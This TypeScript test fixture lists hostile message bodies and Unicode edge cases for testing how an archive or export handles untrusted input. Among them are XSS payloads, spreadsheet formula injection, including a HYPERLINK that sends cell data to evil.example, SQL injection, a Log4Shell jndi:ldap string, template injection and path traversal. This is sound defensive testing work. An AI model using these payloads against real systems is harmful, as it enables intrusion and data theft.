/**
 * What the lab's client wrote into the messages `hostile-0` … `hostile-34` of the fixture, taken from its
 * source and not from the archive. XML turned the CR LF of number 22 into LF on its way in.
 */
export const HOSTILE_BODIES: readonly string[] = [
  "<script>alert('xss')</script>",
  '"><img src=x onerror=alert(1)>',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "'; DROP TABLE prosodyarchive; --",
  'a,b;c\td"e""f',
  "]]>",
  "&amp; &lt;body&gt;",
  "</body></message>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of somebody else
  "{{7*7}} ${7*7} <%= 7*7 %>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of somebody else
  "${jndi:ldap://evil.example/a}",
  "javascript:alert(1)",
  "../../etc/passwd",
  "%s%n%00 \\u0000 \\x00",
  "\u202eevil.exe\u202c rtl override",
  "zero\u200bwidth\u200djoin\ufeff",
  "Z\u0351\u036b\u0313\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA\u0334\u0335\u031c\u0330\u0354\u036b\u0357\u0362L\u0320\u0368\u0367\u0369\u0358G\u0334\u033b\u0348\u034d\u0354\u0339\u0311\u0357\u030e\u0305\u035b\u0301\u01ea\u0335\u0339\u033b\u031d\u0333\u0342\u030c\u030c\u0358",
  "line\u2028sep\u2029par\u0085nel",
  "tab\tand\nnewline\ncr",
  "\ud835\udd4c\ud835\udd5f\ud835\udd5a\ud835\udd54\ud835\udd60\ud835\udd55\ud835\udd56 \ud800\udf48 \ud83e\uddd1\ud83c\udfff\u200d\ud83d\ude80",
  "\ufdfa",
  "\u0645\u0631\u062d\u0628\u0627 world 123 \u05e9\u05dc\u05d5\u05dd",
  "e\u0301 vs \u00e9",
  "\u00df \u1e9e \u0130 \u0131",
  "x".repeat(2000),
  `https://${"a".repeat(500)}.example/`,
  "NULL",
  "true",
  "1e309",
  "",
  " leading and trailing ",
];
